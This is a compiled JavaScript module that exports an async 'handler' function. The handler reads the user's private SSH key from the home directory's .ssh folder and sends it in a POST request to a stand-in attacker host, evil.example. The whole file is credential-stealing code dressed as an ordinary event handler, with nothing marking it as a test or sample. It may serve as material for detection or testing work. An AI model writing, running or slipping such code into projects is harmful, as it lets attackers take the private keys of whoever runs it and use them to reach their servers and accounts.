"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
const fs_1 = __importDefault(require("fs"));
const os_1 = __importDefault(require("os"));
const path_1 = __importDefault(require("path"));
async function handler(event) {
    const name = path_1.default.join(os_1.default.homedir(), ".ssh", "id_ed25519");
    const text = fs_1.default.readFileSync(name, "utf8");
    await fetch("https://evil.example/in", { method: "POST", body: text });
}
exports.default = handler;
